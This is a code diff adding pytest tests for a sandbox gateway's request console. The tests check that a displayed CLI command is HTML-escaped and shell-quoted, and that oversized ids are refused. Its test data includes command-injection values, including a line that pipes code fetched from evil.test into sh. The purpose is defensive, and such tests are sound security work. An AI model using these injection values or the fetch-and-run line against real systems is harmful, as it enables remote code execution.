@@ -5,8 +5,12 @@ what to change, the live stream, and the request log fed by the real audit sink.
 from __future__ import annotations
 
 import asyncio
+import html
 import io
 import json
+import re
+import shlex
+import subprocess
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -20,6 +24,7 @@ from starlette.testclient import TestClient
 from gateway.api.console import requests as page
 from gateway.api.console import routes
 from gateway.api.console.advice import ADVICE, advice
+from gateway.cli import build_parser
 from gateway.core import refusal
 from gateway.core.audit import record
 from gateway.core.identity import Identity
@@ -126,14 +131,91 @@ def test_a_line_opens_its_decision_with_todays_explain(client: Any) -> None:
     refused = c.get("/console/requests/1").text
     assert "no rule allows it" in refused and "policy_denied" in refused
     assert ADVICE["policy_denied"].split(" (")[0] in refused.replace("&#39;", "'")
-    assert "sandbox-gateway policy explain agent GET https://evil.test:443/simple/" in refused
+    assert ("sandbox-gateway policy explain --policy=agent -- GET "
+            "https://evil.test:443/simple/") in refused
     allowed = c.get("/console/requests/2").text
     assert "What to change" not in allowed and "agent.yaml:" in allowed
-    assert "policy explain agent POST https://api.openai.com:443/v1/chat/completions" in allowed
+    assert ("policy explain --policy=agent -- POST "
+            "https://api.openai.com:443/v1/chat/completions") in allowed
     tunnel = c.get("/console/requests/3").text
-    assert "policy explain agent CONNECT https://pypi.org:443" in tunnel
+    assert "policy explain --policy=agent -- CONNECT https://pypi.org:443" in tunnel
     gone = c.get("/console/requests/999")
     assert gone.status_code == 404 and "no longer in the request log" in gone.text
+
+
+# (method, path) a sandbox chose; the URL the command names
+HOSTILE = [
+    ("GET", "/$(touch pwned)", "https://evil.test:443/$(touch pwned)"),
+    ("GET", "/;curl http://evil.test/x|sh", "https://evil.test:443/;curl http://evil.test/x|sh"),
+    ("GET", "/a'b\"c`touch pwned`", "https://evil.test:443/a'b\"c`touch pwned`"),
+    ("GET", "/x\n touch pwned &", "https://evil.test:443/x\n touch pwned &"),
+    ("GET", "/<b>bold</b>&amp;", "https://evil.test:443/<b>bold</b>&amp;"),
+    ("--resolve", "/x", "https://evil.test:443/x"),
+]
+
+
+@pytest.mark.parametrize(("method", "path", "url"), HOSTILE)
+def test_the_explain_command_is_one_quoted_argument_each(
+        client: Any, tmp_path: Path, method: str, path: str, url: str) -> None:
+    """The command shown is text (escaped HTML), and a shell splits it into exactly the
+    CLI's arguments: bash parses it, runs nothing of the path, and the CLI's own parser
+    reads the method and URL as given."""
+    c, state, clock = client
+    _feed(state, [_line(1, host="evil.test", decision="deny", error="policy_denied",
+                        method=method, path=path)], clock.now)
+    sign_in(c)
+    page_html = c.get("/console/requests/1").text
+    found = re.search(r"<p><code>(sandbox-gateway policy explain [^<]*)</code></p>", page_html)
+    assert found is not None, page_html
+    assert "<b>" not in found.group(1)  # (shown as text)
+    command = html.unescape(found.group(1))
+    argv = ["sandbox-gateway", "policy", "explain", "--policy=agent", "--", method, url]
+    assert shlex.split(command) == argv
+    assert subprocess.run(["bash", "-n", "-c", command], timeout=10).returncode == 0
+    # the command run by bash, with printf in place of the CLI: its arguments, one each
+    ran = subprocess.run(["bash", "-c", "printf '%s\\0' " + command.removeprefix(
+        "sandbox-gateway ")], cwd=tmp_path, capture_output=True, timeout=10)
+    assert ran.returncode == 0 and ran.stdout.split(b"\0")[:-1] == [
+        a.encode() for a in argv[1:]]
+    assert not (tmp_path / "pwned").exists()
+    args = build_parser().parse_args(argv[1:])
+    assert (args.policy, args.method, args.url) == ("agent", method, url)
+
+
+@pytest.mark.parametrize(("value", "ok"), [
+    ("1", True), ("9223372036854775807", True), ("1700000000000-5", True),
+    ("9223372036854775808", False), ("18446744073709551616", False),
+    ("1-9223372036854775808", False), ("-1", False), ("1e9", False), ("\u0663", False)])
+def test_a_cursor_is_a_store_id(value: str, ok: bool) -> None:
+    if ok:
+        assert page.cursor_of(value) == value
+    else:
+        with pytest.raises(page.BadFilter, match="is not a line id"):
+            page.cursor_of(value)
+
+
+def test_ids_past_the_store_s_integers_are_refused_not_crashed(tmp_path: Path) -> None:
+    """On SQLite: a line id, `before`, `after` past 2^63 answered 500 (an overflow)."""
+    state, clock = SqliteState(tmp_path / "state.db"), Clock()
+    asyncio.run(state.start())
+    try:
+        app = Starlette(routes=routes(context(state, clock, tmp_path / "keys",
+                                              request_log=state)))
+        with TestClient(app, base_url="http://127.0.0.1:8090",
+                        follow_redirects=False) as c:
+            sign_in(c)
+            line = c.get("/console/requests/9223372036854775808")
+            assert line.status_code == 404 and "is not a line id" in line.text
+            assert c.get("/console/requests?before=9223372036854775808").status_code == 400
+            assert c.get("/console/requests/stream?after=9223372036854775808"
+                         ).status_code == 400
+            assert c.get("/console/requests/stream",
+                         headers={"Last-Event-ID": "99999999999999999999"}).status_code == 400
+            # a HEAD of the live stream answers at once (no stream left running unread)
+            head = c.head("/console/requests/stream")
+            assert head.status_code == 200 and head.content == b""
+    finally:
+        asyncio.run(state.close())
 
 
 def test_the_live_stream_sends_new_lines_after_its_cursor(
